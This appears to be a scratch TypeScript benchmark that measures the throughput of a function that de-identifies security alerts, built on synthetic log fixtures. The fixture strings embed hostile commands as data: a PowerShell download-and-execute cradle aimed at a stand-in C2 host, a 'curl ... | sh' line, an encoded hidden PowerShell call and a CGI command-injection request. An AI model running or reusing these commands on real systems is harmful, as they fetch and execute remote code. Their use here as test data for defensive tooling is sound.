// Scratch throughput check (not a test, not committed): npx ts-node-ish via @swc-node/register.
import { gzipSync } from 'node:zlib';
import { deidentify } from './index';
import { baseAlert, CUSTOMER, KEY, K_VIEW, NOW } from './testing/fixtures';

const ps = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://cdn.badc2.net/s.ps1")', 'utf16le').toString('base64');
const gz = gzipSync(Buffer.from('curl http://185.220.101.4/x.sh | sh')).toString('base64');
const log =
  `Mar  1 09:41:27 web01 sshd[2211]: Failed password for invalid user oracle from 185.220.101.4 port 51234 ssh2; ` +
  `GET /cgi-bin/status?cmd=%2Fbin%2Fbash%20-c%20id HTTP/1.1 UA=Mozilla/5.0 (compatible; Nmap Scripting Engine); ` +
  `powershell.exe -nop -w hidden -enc ${ps} ; payload=${gz} ; C:\\Users\\taro.yamada\\AppData\\Local\\Temp\\a.exe ` +
  `dst 10.20.30.40 src 185.220.101.4 sha256 a3f5c1e2b4d6a8f0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f4a6c8e0b2d4f6a8 &amp; hxxp://evil[.]top/a `;
const alerts = Array.from({ length: 200 }, (_, i) =>
  baseAlert({
    id: `alert-${i}`,
    description: `Inbound exploit attempt ${i} from 185.220.101.4 against web01, EXCORP\\taro.yamada, rule hit.`,
    texts: [
      { field: 'full_log', text: log.repeat(2).slice(0, 1400) },
      { field: 'message', text: `Process C:\\Windows\\System32\\rundll32.exe started by taro.yamada on WEB01 (${i})` },
    ],
  }),
);
const size = JSON.stringify(alerts[0]).length;
for (let i = 0; i < Number(process.env.W ?? 2000); i++) deidentify({ alert: alerts[i % 200]!, customer: CUSTOMER, key: KEY, kView: K_VIEW, now: NOW });
const n = Number(process.env.N ?? 20000);
const t0 = process.hrtime.bigint();
let held = 0;
for (let i = 0; i < n; i++) if (deidentify({ alert: alerts[i % 200]!, customer: CUSTOMER, key: KEY, kView: K_VIEW, now: NOW }).decision === 'hold') held++;
const s = Number(process.hrtime.bigint() - t0) / 1e9;
console.log(`alert ~${size} bytes; ${Math.round(n / s)} alerts/s single core; held ${held}/${n}`);
